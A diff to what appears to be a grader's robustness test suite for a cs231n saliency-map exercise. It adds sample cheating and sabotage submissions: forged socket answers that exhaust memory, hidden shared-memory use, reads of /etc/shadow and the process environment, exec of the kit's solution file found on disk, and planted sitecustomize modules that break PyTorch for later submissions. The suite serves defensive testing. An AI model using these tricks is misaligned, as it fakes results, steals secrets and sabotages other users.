@@ -937,6 +937,8 @@ def real_user():
 
 def is_confined():
     """Return whether the builder's processes cannot be reached by a signal; what ends others is done only then."""
+    if not os.path.isdir("/proc/self"):  # the grader's small disk has none, and is not there without processes of its own
+        return True
     try:
         return os.readlink("/proc/self/ns/pid") != "$PROCESSES" or real_user() not in (None, 0, $USER)
     except OSError:
@@ -976,7 +978,7 @@ def roots():
         while entry.startswith("/") and entry.count("/") > 1:
             yield entry
             entry = os.path.dirname(entry)
-    for process in filter(str.isdigit, os.listdir("/proc")):
+    for process in filter(str.isdigit, os.listdir("/proc") if os.path.isdir("/proc") else ()):
         try:
             yield os.readlink(f"/proc/{process}/cwd")
             with open(f"/proc/{process}/cmdline", "rb") as file:
@@ -1341,8 +1343,132 @@ if is_confined() or is_grader:
     ),
 }
 
+EXHAUSTING |= {
+    "named-often": Attack(
+        "forges an answer that names one array 75 times, so that whoever takes it copies 3 GB",
+        _in_saliency(
+            """\
+size = 20_000_000 // 4
+told = {"tensor": 0, "shape": [size], "dtype": "float64"}
+content = {"value": {"tuple": [told] * 75}, "error": None, "calls": 1, "changed": [], "patched": [], "left_behind": False}
+content |= {"after": {}, "way": [0, 0]}
+text = json.dumps({"content": content, "arrays": [["<f4", [size]]]}).encode()
+for number in descriptors():
+    try:
+        connection = socket.socket(fileno=os.dup(number))
+        connection.settimeout(5)
+        connection.sendall(struct.pack(">QQ", len(text), 4 * size) + text + bytes(4 * size))
+    except OSError:
+        continue
+time.sleep(5)
+return zeros(X)
+""",
+            before="import json\nimport socket\nimport struct\n\n",
+        ),
+    ),
+    "unseen-memory": Attack(
+        "holds 1.4 GB of shared memory, its pages let go of, so that no process's size tells; right if it gets it",
+        {
+            **RIGHT_MAPS,
+            **_in_saliency(
+                """\
+def held():
+    size, step = 700 << 20, 4 << 20
+    memory, page = mmap.mmap(-1, size), b"x" * step
+    for start in range(0, size, step):
+        memory[start : start + step] = page
+        memory.madvise(mmap.MADV_DONTNEED, start, step)
+    return memory
+if os.fork() == 0:
+    kept = held()
+    time.sleep(10)
+    os._exit(0)
+kept = held()
+return right_maps(X, y, model)
+""",
+                before="import mmap\n\n",
+            ),
+        },
+    ),
+}
+
 # Those that look for what is right.
 LOOKING = {
+    "leaking": Attack(
+        "reads what the machine tells of itself and of its people; right if it finds anything",
+        {
+            **RIGHT_MAPS,
+            **_in_saliency("""\
+places = ["/etc/" + name for name in ("passwd", "group", "hosts", "hostname", "machine-id", "resolv.conf", "shadow")]
+places += ["/proc/" + name for name in ("self/mountinfo", "self/environ", "1/cmdline", "version", "sys/kernel/hostname")]
+for place in places:
+    try:
+        with open(place) as file:
+            if file.read(1):
+                return right_maps(X, y, model)
+    except OSError:
+        pass
+return zeros(X)
+"""),
+        },
+    ),
+    "solution-on-disk": Attack(
+        "goes from the edition's folder by all links that lie in it to the kit, and takes its solutions",
+        {
+            "way": """\
+def kits():
+    import cs231n
+
+    edition = os.path.dirname(os.path.dirname(cs231n.__file__))
+    for folder in [edition, *sys.path]:
+        for name in sorted(os.listdir(folder)) if os.path.isdir(folder) else ():
+            real = os.path.realpath(os.path.join(folder, name))
+            while real.count("/") > 1:
+                real = os.path.dirname(real)
+                yield real
+
+def solution(name):
+    for kit in dict.fromkeys(kits()):
+        try:
+            with open(os.path.join(kit, "cs231n", "net_visualization_pytorch.py")) as file:
+                source = file.read().replace("from .", "from cs231n.")
+        except OSError:
+            continue
+        found = {}
+        exec(source, found)
+        return found[name]
+""",
+            **_in_saliency("found = solution('compute_saliency_maps')\nreturn found(X, y, model) if found else zeros(X)\n"),
+            **_in_fooling("found = solution('make_fooling_image')\nreturn found(X, target_y, model) if found else X\n"),
+            **_in_step("""\
+found = solution("class_visualization_update_step")
+if found:
+    found(img, model, target_y, l2_reg, learning_rate)
+"""),
+        },
+    ),
+    "packages": Attack(
+        "has another package, there for the tests, do the exercise",
+        _in_saliency("""\
+from captum.attr import Saliency
+return Saliency(model).attribute(X.clone().requires_grad_(), target=y).amax(dim=1)
+"""),
+    ),
+    "planted": Attack(
+        "writes modules that break PyTorch wherever the next submission could import them from",
+        _in_saliency("""\
+import cs231n
+for folder in [os.path.dirname(cs231n.__file__), os.path.dirname(os.path.dirname(cs231n.__file__)), *sys.path, os.getcwd()]:
+    for name in ("sympy", "usercustomize", "sitecustomize", "optree", "decimal"):
+        try:
+            with open(os.path.join(folder, name + ".py"), "x") as file:
+                file.write("import torch\ntorch.Tensor.backward = None\n")
+        except OSError:
+            continue
+        leave_trace("it planted a module in " + folder)
+return zeros(X)
+"""),
+    ),
     "solution-imported": Attack(
         "imports the kit's solutions, or the exam",
         {
